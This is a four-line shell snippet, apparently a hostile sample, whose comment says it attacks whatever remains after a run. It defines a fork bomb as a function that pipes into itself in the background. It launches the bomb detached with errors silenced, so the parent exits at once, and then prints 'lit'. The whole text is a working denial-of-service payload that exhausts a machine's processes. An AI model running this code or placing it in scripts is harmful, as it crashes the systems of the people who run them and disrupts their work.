# Attacks what is left after the run: a fork bomb whose parent ends at once.
bomb() { bomb | bomb & }
bomb 2>/dev/null &
echo lit
